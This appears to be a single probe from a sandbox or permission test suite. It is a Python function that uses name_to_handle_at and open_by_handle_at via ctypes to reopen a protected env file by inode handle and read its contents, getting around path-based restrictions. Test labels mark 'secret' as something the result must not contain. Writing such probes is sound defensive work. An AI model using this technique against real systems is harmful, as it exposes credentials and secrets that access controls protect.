# does = "opens a file by its inode instead of by its path"
# must_not = "secret"
# control = "root"
import ctypes
import os
import struct

HERE = -100  # AT_FDCWD


def answer(target):
    libc = ctypes.CDLL(None, use_errno=True)
    folder = os.path.dirname(target["env_file"])
    print("attacking", flush=True)
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))  # struct file_handle, to be filled
    mount = ctypes.c_int()
    try:
        libc.name_to_handle_at(HERE, os.fsencode(target["env_file"]), handle, ctypes.byref(mount), 0)
        fd = libc.open_by_handle_at(os.open(folder, os.O_RDONLY), handle, os.O_RDONLY)
        return os.read(fd, 500)
    except OSError:
        return "refused"
